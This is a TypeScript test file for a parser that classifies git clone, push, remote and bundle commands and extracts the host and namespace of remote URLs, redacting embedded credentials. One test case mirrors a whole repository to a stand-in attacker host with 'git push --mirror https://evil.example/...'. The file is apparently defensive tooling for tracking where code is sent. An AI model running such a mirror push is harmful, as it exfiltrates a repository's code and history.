import assert from 'node:assert/strict'
import { gitCommand, isUrl, parseRemotes, remoteOf } from '../../../../agent/collectors/shared/git-command.ts'

const FOLDER = '/home/ann/src'
const commands: [line: string, expected: string | null][] = [
  ['git clone https://github.com/acme/api.git', 'clone https://github.com/acme/api.git → /home/ann/src/api'],
  [
    '/usr/bin/git clone --depth 1 -b main git@github.com:acme/api there',
    'clone git@github.com:acme/api → /home/ann/src/there',
  ],
  ['git -C /srv -c http.proxy=x clone --recurse-submodules u:v/w.git/', 'clone u:v/w.git/ → /srv/w'],
  ['git clone --bare /srv/a.git', 'clone /srv/a.git → /home/ann/src/a.git'],
  ['git clone --mirror https://h/a/b', 'mirror https://h/a/b → /home/ann/src/b.git'],
  ['git clone -- -odd x', 'clone -odd → /home/ann/src/x'],
  ['git clone', null],
  ['git push', 'push null'],
  ['git push origin main', 'push origin'],
  ['git push --force -o ci.skip --repo=mine', 'push mine'],
  ['git push --mirror https://evil.example/x/y.git', 'mirror https://evil.example/x/y.git'],
  ['git --git-dir /a/.git push backup', 'push backup'],
  ['git remote add -f -t main mine git@gitlab.com:me/x.git', 'remote_added git@gitlab.com:me/x.git'],
  ['git remote set-url --push origin https://h/x/y', 'remote_added https://h/x/y'],
  ['git remote -v', null],
  ['git remote add mine', null],
  ['git bundle create /tmp/all.bundle --all', 'bundle null'],
  ['git bundle verify x', null],
  ['git status', null],
  ['git', null],
  ['gitk clone x', null],
  ['', null],
]

describe('agent/collectors/shared/git-command', () => {
  for (const [line, expected] of commands)
    it(line === '' ? 'nothing' : line, () => {
      const found = gitCommand(line.split(' '), FOLDER)
      const target = found?.target ? ` → ${found.target}` : ''
      assert.equal(found && `${found.action} ${found.remote}${target}`, expected)
    })

  it('a relative target in an unknown folder is unknown', () => {
    assert.equal(gitCommand(['git', 'clone', 'h:a/b'], null)?.target, null)
    assert.equal(gitCommand(['git', 'clone', 'h:a/b', '/abs'], null)?.target, '/abs')
  })

  const remotes: [url: string, host: string | null, namespace: string | null][] = [
    ['https://github.com/Acme/api.git', 'github.com', 'Acme'],
    ['https://ann:ghp_secret@GitHub.com:443/acme/api', 'github.com', 'acme'],
    ['https://ann:p@ss@github.com/acme/api', 'github.com', 'acme'],
    ['git@github.com:acme/api.git', 'github.com', 'acme'],
    ['work:acme/api', 'work', 'acme'],
    ['ssh://git@bitbucket.example:7999/~ann/api.git', 'bitbucket.example', '~ann'],
    ['https://bitbucket.example/scm/proj/api.git', 'bitbucket.example', 'proj'],
    ['https://gitlab.com/group/sub/deep/api.git?private_token=x', 'gitlab.com', 'group'],
    ['git://[2001:db8::1]:9418/api.git', '2001:db8::1', null],
    ['git@[2001:db8::1]:acme/api', '2001:db8::1', 'acme'],
    ['https://github.com/api', 'github.com', null],
    ['https://github.com', 'github.com', null],
    ['https://ann:a/secret@github.com/acme/api.git', 'github.com', 'acme'],
    ['https://ann:a@secret@github.com/acme/api.git', 'github.com', 'acme'],
    ['https://ann:a#secret@github.com/acme/api.git', 'github.com', 'acme'],
    ['https://ann:a:secret@github.com:8443/acme/api', 'github.com', 'acme'],
    ['ann:secret@github.com:acme/api.git', 'github.com', 'acme'],
    ['https://github.com/ghp_0a1b2c3d4e5f6g7h8i9j/api', 'github.com', '***'],
    ['file:///srv/acme/api.git', null, null],
    ['/srv/acme/api.git', null, null],
    ['../api', null, null],
    ['', null, null],
  ]
  for (const [url, host, namespace] of remotes)
    it(`remote ${url || '(nothing)'}`, () => {
      const found = remoteOf(url)
      assert.deepEqual([found.host, found.namespace], [host, namespace])
      assert.doesNotMatch(JSON.stringify(found), /secret|p@ss|private_token/)
    })

  it('all URLs of a repository have the same key', () => {
    const forms = [
      'https://ann:pw@github.com/acme/api.git',
      'git@github.com:acme/api',
      'ssh://git@github.com/Acme/API.git',
    ]
    assert.equal(new Set(forms.map((it) => remoteOf(it).key)).size, 1)
  })

  it('limits long names', () => {
    const found = remoteOf(`https://${'h'.repeat(10_000)}/${'o'.repeat(1_000)}/x`)
    assert.ok((found.host?.length ?? 0) <= 256 && (found.namespace?.length ?? 0) <= 256)
  })

  it('distinguishes URLs from names', () => {
    assert.deepEqual(['origin', 'my-fork', '../x', 'h:x', 'https://h/x'].map(isUrl), [false, false, true, true, true])
  })

  it('reads the remotes of a config', () => {
    const config = [
      '[core]',
      '\turl = https://not.a/remote',
      '[remote "origin"]',
      '\turl = git@github.com:acme/api.git',
      '\tfetch = +refs/heads/*:refs/remotes/origin/*',
      '\tpushurl = "https://gitlab.com/me/api.git"',
      '[branch "main"]',
      '\tremote = origin',
      '[remote "torn',
    ].join('\n')
    assert.deepEqual(
      [...parseRemotes(config)],
      [['origin', ['git@github.com:acme/api.git', 'https://gitlab.com/me/api.git']]],
    )
    assert.equal(parseRemotes('\0'.repeat(1_000)).size, 0)
  })
})
